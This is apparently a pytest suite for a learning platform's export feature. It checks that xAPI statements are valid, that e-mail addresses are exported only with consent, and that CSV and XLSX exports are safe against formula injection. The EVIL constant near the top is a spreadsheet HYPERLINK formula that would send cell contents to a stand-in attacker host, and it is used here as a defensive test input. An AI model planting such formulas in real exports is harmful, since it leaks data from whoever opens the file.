"""Exports: xAPI accepted by an independent library, e-mail only with consent, formula-safe CSV and XLSX."""

from __future__ import annotations

import csv
import datetime as dt
import io
import itertools
import json
import re
import uuid
from urllib.parse import unquote

import pytest
from openpyxl import load_workbook
from ralph.models.xapi.base.statements import BaseXapiStatement
from sqlalchemy import select

from exercises.alignment import OBJECT_PREFIX as ALIGNMENT
from exercises.alignment import ItemMapping, answer_key, check_plan, plan_score
from exercises.assumptions import projects, screen, screening_score
from exercises.clinic import cases as clinic_cases
from exercises.clinic import check_attempt
from exercises.indicators import Indicator
from exercises.logframe import check_logframe, templates, to_tables
from exercises.midterm import body_ratings, check_review, review_score, reviews
from exercises.results_chain import banks, mark_round, round_of, round_score
from exercises.rules import score as quality
from exercises.tracking_cases import Answer, expected, grade, set_score
from exercises.tracking_cases import cases as tracking_cases
from modules.catalog import curriculum
from modules.grading import model_response
from progress.__main__ import main
from progress.accounts import join_cohort
from progress.demo import simulate
from progress.export import export_files, xapi_statements
from progress.models import Cohort, Person, Statement
from progress.practice import (
    LOGFRAME_OBJECT,
    TRACKING_CASES,
    record_answer,
    record_attempt,
    record_submission,
    tracking_plan_object,
)
from progress.record import answer_check, show_hint, submit_quiz, submit_test, view_lesson
from progress.statements import VERBS, clock

EVIL = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click")'
HOME = "https://academy.example.org"
ADL = "http://adlnet.gov/expapi/verbs/"
TYPE = "http://adlnet.gov/expapi/activities/"
START = dt.datetime(2026, 11, 24, 1, 30, 0, 250_000)  # 08:30 in Ha Noi, stored as naive UTC
# Every kind of statement the app records: (verb IRI, activity type, what the object is).
EVERY_KIND = {
    (ADL + "experienced", TYPE + "lesson", "lesson"),
    (ADL + "completed", TYPE + "lesson", "lesson"),
    (ADL + "answered", TYPE + "question", "knowledge check"),
    (ADL + "interacted", TYPE + "question", "knowledge check"),
    (ADL + "failed", TYPE + "assessment", "quiz"),
    (ADL + "passed", TYPE + "assessment", "quiz"),
    (ADL + "answered", TYPE + "question", "quiz question"),
    (ADL + "completed", TYPE + "assessment", "test:pre"),
    (ADL + "answered", TYPE + "question", "pre-test question"),
    (ADL + "completed", TYPE + "assessment", "test:post"),
    (ADL + "answered", TYPE + "question", "post-test question"),
    (ADL + "completed", TYPE + "interaction", "exercise:results-chain"),
    (ADL + "answered", TYPE + "interaction", "exercise:broken-link"),
    (ADL + "attempted", TYPE + "interaction", "exercise:indicator-clinic"),
    (ADL + "completed", TYPE + "interaction", "exercise:indicator-clinic"),
    (ADL + "completed", TYPE + "interaction", "exercise:logframe"),
    (ADL + "completed", TYPE + "interaction", "exercise:assumptions"),
    (ADL + "completed", TYPE + "interaction", "exercise:tracker:plan"),
    (ADL + "completed", TYPE + "interaction", "exercise:tracker:cases"),
    (ADL + "completed", TYPE + "interaction", "exercise:alignment"),
    (ADL + "completed", TYPE + "interaction", "exercise:midterm-review"),
}


@pytest.fixture
def cohort(sessions):
    """A small simulated workshop plus one participant whose name is a formula."""
    with sessions.begin() as db:
        workshop = simulate(db, 4, start=dt.date(2026, 11, 24), seed=3)
        join_cohort(db, workshop.cohort.room_code, EVIL, "VNM", "ACDM")
        db.expunge(workshop.cohort)
        return workshop.cohort


def _learn(db, lan: Person) -> None:
    """A lesson with a hint, a wrong and right answers; a quiz failed then passed; both tests."""
    cur = curriculum()
    lesson = cur.lesson("m0/blueprint")
    q1, q2, q3 = lesson.parsed.questions
    view_lesson(db, lan, lesson, "visit-1")
    show_hint(db, lan, q1, 1)
    answer_check(db, lan, lesson, q1, "The 21st SOCA Meeting", "n1")  # a distractor
    answer_check(db, lan, lesson, q1, model_response(q1), "n2")
    answer_check(db, lan, lesson, q2, model_response(q2), "n3")
    answer_check(db, lan, lesson, q3, 650.0, "n4")  # wrong (6.5): the lesson completes with 2 of 3 right
    m1 = cur.module("m1")
    submit_quiz(db, lan, m1, {}, "quiz-1")  # nothing answered: failed with 0 %
    submit_quiz(db, lan, m1, {q.id: model_response(q) for q in m1.quiz.questions}, "quiz-2")
    submit_test(db, lan, cur.test("pre"), {})
    post = cur.test("post")
    submit_test(db, lan, post, {i.question.id: model_response(i.question) for i in post.items})


def _practise(db, lan: Person) -> None:
    """Every exercise as its page records it, answered with its own model answers."""
    bank = banks()["ACDM"]
    items = round_of(bank, "round-1")
    sorted_round = {s.id: s.level for s in items}
    marked = round_score(mark_round(items, sorted_round))
    record_submission(
        db, lan, bank.object_id, "round-1", score=marked, response=sorted_round, success=marked >= 80
    )
    chain = bank.chains[0]
    pick = 3  # "Link 3: step 3 → step 4"
    record_answer(db, lan, bank.chain_object_id(chain), "link-1", response=pick, correct=pick == chain.broken)
    case = next(c for c in clinic_cases().values() if c.body == "ACDM")
    weak = Indicator.from_mapping({"statement": case.weak})
    tried = check_attempt(case, weak)
    rules = [f.rule for f in tried.findings]
    record_attempt(db, lan, case.object_id, "c1", score=tried.score, response=weak.to_dict(), findings=rules)
    done = check_attempt(case, case.model)
    record_submission(
        db,
        lan,
        case.object_id,
        "c2",
        score=done.score,
        response=case.model.to_dict(),
        success=done.well_formed,
    )
    frame = templates()["ACDM"].logframe
    rows, indicators = to_tables(frame)
    found = check_logframe(frame)
    response = {"rows": rows, "indicators": indicators}
    record_submission(
        db,
        lan,
        LOGFRAME_OBJECT,
        "lf-1",
        score=quality(found),
        response=response,
        findings=[f.rule for f in found],
    )
    project = next(p for p in projects().values() if p.body == "ACDM")
    ratings = [c.model for c in project.candidates]
    screened = screen(project, ratings, [""] * len(ratings))
    response = [
        {"controlled": r.controlled, "important": r.important, "likely": r.likely, "decision": r.decision}
        | {"rewrite": ""}
        for r in ratings
    ]
    record_submission(db, lan, project.object_id, "as-1", score=screening_score(screened), response=response)
    plan = {"indicator": "under5_mortality_rate", "country": "VNM", "baseline": 21.0, "target": 18.0}
    record_submission(
        db, lan, tracking_plan_object("under5_mortality_rate", "VNM"), "tp-1", score=75, response=plan
    )
    answers = {}
    for c in tracking_cases():
        e = expected(c)
        answers[c.id] = {
            "percent": e.percent,
            "colour": e.colour,
            "lop_actual": e.lop_actual,
            "adds_up": e.adds_up,
        }
    graded = [grade(c, Answer.from_dict(answers[c.id])) for c in tracking_cases()]
    record_submission(db, lan, TRACKING_CASES, "tc-1", score=set_score(graded), response=answers)
    key = answer_key()
    mapped = {
        i: {"characteristic": k.kra[0], "kra": k.kra, "measure": "", "outcome_id": k.outcome_id or "none"}
        | {"contribution": k.contribution, "indicator_id": ""}
        for i, k in key.items()
        if i.startswith("ACDM-")
    }
    results, _ = check_plan(
        dict.fromkeys(mapped, ""), {i: ItemMapping.from_dict(i, r) for i, r in mapped.items()}, set()
    )
    record_submission(db, lan, ALIGNMENT + "ACDM", "al-1", score=plan_score(results), response=mapped)
    review, outcomes = reviews()["ACDM"], body_ratings("ACDM")
    criteria = [q.criterion for q in review.questions]
    given = {r.outcome_id: r.colour for r in outcomes}
    matched, checks = check_review(review, list(outcomes), criteria, given, {})
    response = {f"q{n}": c for n, c in enumerate(criteria)} | {f"rate:{o}": g for o, g in given.items()}
    record_submission(
        db, lan, review.object_id, "mr-1", score=review_score(matched, checks), response=response
    )


@pytest.fixture
def every_kind(sessions, monkeypatch) -> tuple[int, int, set[str], list[dict]]:
    """Two learners who between them recorded every kind of statement, a minute apart, and the export."""
    monkeypatch.setenv("ACADEMY_BASE_URL", HOME + "/")
    with sessions.begin() as db:
        db.add(Cohort(name="Ha Noi workshop", room_code="HANOI19"))
        db.flush()
        ticks = (START + dt.timedelta(minutes=n) for n in itertools.count())
        with clock(lambda: next(ticks)):
            lan, _code = join_cohort(db, "HANOI19", "Lê Thị Lan", "VNM", "ACDM")
            _learn(db, lan)
            _practise(db, lan)
            hung, _code = join_cohort(db, "HANOI19", "Trần Văn Hùng", "THA", "ASOEN")
            hung.email, hung.email_consent = "hung@example.org", True
            view_lesson(db, hung, curriculum().lesson("m1/monitoring-vs-evaluation"), "visit-1")
        verbs = set(db.scalars(select(Statement.verb).distinct()))
        return lan.id, hung.id, verbs, xapi_statements(db, curriculum(), db.get(Cohort, lan.cohort_id))


def kind(statement: dict) -> str:
    """What a statement's object is, read back from its activity IRI."""
    object_id = unquote(statement["object"]["id"].removeprefix(HOME + "/xapi/activities/"))
    if object_id.startswith("exercise:"):
        parts = object_id.split(":")
        return ":".join(parts[:3] if parts[1] == "tracker" else parts[:2])
    if object_id.startswith(("lesson:", "quiz:")):
        return object_id.split(":")[0]
    if object_id.startswith("test:"):
        return object_id
    for marker, name in (
        ("-quiz-", "quiz question"),
        ("-pre-", "pre-test question"),
        ("-post-", "post-test question"),
    ):
        if marker in object_id:
            return name
    return "knowledge check"


def test_every_kind_of_statement_is_exported_and_each_is_valid_xapi(every_kind):
    _lan, _hung, verbs, statements = every_kind
    assert verbs == set(VERBS), "the fixture must record every verb the app knows"
    for s in statements:
        BaseXapiStatement(**s)  # raises on anything xAPI 1.0.3 does not allow
    assert {(s["verb"]["id"], s["object"]["definition"]["type"], kind(s)) for s in statements} == EVERY_KIND
    assert {(s["verb"]["id"], s["object"]["definition"]["type"]) for s in statements} == {
        (verb, activity) for verb, activity, _ in EVERY_KIND
    }
    stamps = [s["timestamp"] for s in statements]  # one a minute from 08:30 in Ha Noi (01:30 UTC)
    assert all(re.fullmatch(r"2026-11-24T0[1-3]:\d\d:00\.250Z", t) for t in stamps), stamps
    assert stamps == sorted(set(stamps))
    assert len({uuid.UUID(s["id"]) for s in statements}) == len(statements)
    assert all(s["version"] == "1.0.3" for s in statements)


def test_exported_statements_carry_the_exact_actor_verb_result_and_context(every_kind):
    lan, hung, _verbs, statements = every_kind
    by = {
        (s["verb"]["display"]["en-US"], unquote(s["object"]["id"].rsplit("/", 1)[1])): s for s in statements
    }
    first = statements[0]
    assert first["timestamp"] == "2026-11-24T01:30:00.250Z"
    assert first["actor"] == {
        "objectType": "Agent",
        "name": "Lê Thị Lan",
        "account": {"homePage": HOME, "name": f"learner-{lan}"},
    }
    assert first["verb"] == {"id": ADL + "experienced", "display": {"en-US": "viewed"}}
    assert first["object"]["id"] == HOME + "/xapi/activities/lesson%3Am0%2Fblueprint"
    assert first["object"]["definition"]["type"] == TYPE + "lesson" and "result" not in first
    namespace = uuid.UUID("6f1c2d1e-5b0a-4c39-9d7e-2a9b8c3e4f10")  # the export's, fixed: ids must not move
    assert first["context"] == {
        "registration": str(uuid.uuid5(namespace, f"registration:HANOI19:{lan}")),
        "contextActivities": {
            "grouping": [
                {
                    "objectType": "Activity",
                    "id": HOME + "/xapi/cohorts/HANOI19",
                    "definition": {
                        "name": {"en-US": "Ha Noi workshop"},
                        "type": "http://id.tincanapi.com/activitytype/school-class",
                    },
                },
                {
                    "objectType": "Activity",
                    "id": HOME + "/xapi/courses/ascc-me-academy",
                    "definition": {"name": {"en-US": "ASCC M&E Academy"}, "type": TYPE + "course"},
                },
            ]
        },
        "language": "en",
    }
    registrations = {s["actor"]["name"]: set() for s in statements}
    for s in statements:
        registrations[s["actor"]["name"]].add(s["context"]["registration"])
    assert registrations == {
        "Lê Thị Lan": {str(uuid.uuid5(namespace, f"registration:HANOI19:{lan}"))},
        "Trần Văn Hùng": {str(uuid.uuid5(namespace, f"registration:HANOI19:{hung}"))},
    }
    assert statements[-1]["actor"] == {
        "objectType": "Agent",
        "name": "Trần Văn Hùng",
        "mbox": "mailto:hung@example.org",
    }
    hint = by[("hinted", "m0-bp-1")]
    assert hint["verb"] == {"id": ADL + "interacted", "display": {"en-US": "hinted"}} and "result" not in hint
    wrong = next(s for s in statements if s["verb"]["display"]["en-US"] == "answered")
    assert wrong["result"] == {
        "score": {"scaled": 0.0, "raw": 0.0, "min": 0.0, "max": 1.0},
        "success": False,
        "response": "The 21st SOCA Meeting",
    }
    assert by[("completed", "lesson:m0/blueprint")]["result"] == {
        "score": {"scaled": 0.6667, "raw": 0.6667, "min": 0.0, "max": 1.0},
        "completion": True,
    }
    assert by[("failed", "quiz:m1")]["result"] == {
        "score": {"scaled": 0.0, "raw": 0.0, "min": 0.0, "max": 100.0},
        "success": False,
        "completion": True,
    }
    assert by[("passed", "quiz:m1")]["result"] == {
        "score": {"scaled": 1.0, "raw": 100.0, "min": 0.0, "max": 100.0},
        "success": True,
        "completion": True,
    }
    assert by[("completed", "test:pre")]["result"] == {
        "score": {"scaled": 0.0, "raw": 0.0, "min": 0.0, "max": 100.0},
        "completion": True,
    }
    assert by[("completed", "test:post")]["result"]["score"]["scaled"] == 1.0
    assert by[("answered", "exercise:broken-link:acdm-chain-1")]["result"] == {
        "score": {"scaled": 1.0, "raw": 1.0, "min": 0.0, "max": 1.0},
        "success": True,
        "response": "3",
    }
    plan = by[("completed", "exercise:tracker:plan:under5_mortality_rate:VNM")]
    assert plan["verb"]["id"] == ADL + "completed"
    assert plan["result"]["score"] == {"scaled": 0.75, "raw": 75.0, "min": 0.0, "max": 100.0}
    assert plan["result"]["completion"] is True and "success" not in plan["result"]
    assert json.loads(plan["result"]["response"]) == {
        "indicator": "under5_mortality_rate",
        "country": "VNM",
        "baseline": 21.0,
        "target": 18.0,
    }
    tried = next(s for s in statements if s["verb"]["display"]["en-US"] == "attempted")
    assert tried["verb"]["id"] == ADL + "attempted" and set(tried["result"]) == {"score", "response"}
    assert tried["object"]["definition"]["name"]["en-US"].startswith("Indicator clinic — ")


def test_a_simulated_workshop_exports_only_valid_xapi(sessions, cohort):
    with sessions.begin() as db:
        statements = xapi_statements(db, curriculum(), cohort)
    assert len(statements) > 500
    for s in statements:
        BaseXapiStatement(**s)  # raises on anything xAPI 1.0.3 does not allow
    assert all(s["timestamp"].endswith("Z") and "mbox" not in s["actor"] for s in statements)
    scaled = [s["result"]["score"]["scaled"] for s in statements if "score" in s.get("result", {})]
    assert all(0 <= v <= 1 for v in scaled) and max(scaled) == 1
    assert len({s["id"] for s in statements}) == len(statements)


def test_an_email_is_exported_only_when_the_learner_agreed(sessions, cohort):
    with sessions.begin() as db:
        people = db.query(Person).filter(Person.cohort_id == cohort.id).order_by(Person.id).all()
        people[0].email, people[0].email_consent = "lan@example.org", True
        people[1].email, people[1].email_consent = "hung@example.org", False
        db.flush()
        statements = xapi_statements(db, curriculum(), cohort)
        actors = {s["actor"]["name"]: s["actor"] for s in statements}
        assert actors[people[0].display_name]["mbox"] == "mailto:lan@example.org"
        assert "mbox" not in actors[people[1].display_name]
        assert "hung@example.org" not in json.dumps(statements)


def test_formula_like_text_is_inert_in_csv_and_xlsx(sessions, cohort):
    with sessions.begin() as db:
        files = export_files(db, curriculum(), cohort, "csv") | export_files(db, curriculum(), cohort, "xlsx")
    roster = next(v for k, v in files.items() if k.endswith("-roster.csv"))
    names = [row["name"] for row in csv.DictReader(io.StringIO(roster.decode("utf-8-sig")))]
    assert "'" + EVIL in names and EVIL not in names
    book = load_workbook(io.BytesIO(next(v for k, v in files.items() if k.endswith(".xlsx"))))
    assert book.sheetnames == ["Roster", "Results"]
    cell = next(c for c in book["Roster"]["A"] if c.value == EVIL)
    assert cell.data_type == "s" and cell.quotePrefix
    results = book["Results"]
    headers = [c.value for c in results[1]]
    assert {"M1 completion", "pre-test %", "post-test %", "Indicator tracking"} <= set(headers)
    assert results.freeze_panes == "B2"


def test_the_export_command_writes_each_format(tmp_path, monkeypatch, capsys):
    monkeypatch.setenv("DATABASE_URL", f"sqlite:///{tmp_path / 'a.sqlite3'}")
    assert main(["demo", "--participants", "2"]) == 0
    room = capsys.readouterr().out.strip().splitlines()[-1]
    assert main(["export", "--cohort", room, "--format", "xapi", "--out", str(tmp_path / "s.json")]) == 0
    assert json.loads((tmp_path / "s.json").read_text())[0]["version"] == "1.0.3"
    assert main(["export", "--cohort", room, "--format", "csv", "--out", str(tmp_path / "csv")]) == 0
    assert sorted(p.name.rsplit("-", 1)[1] for p in (tmp_path / "csv").iterdir()) == [
        "results.csv",
        "roster.csv",
    ]
    assert main(["export", "--cohort", room, "--format", "xlsx", "--out", str(tmp_path)]) == 0
    assert len(list(tmp_path.glob("*.xlsx"))) == 1
    assert main(["export", "--cohort", "NOPE99", "--format", "csv", "--out", str(tmp_path)]) == 1
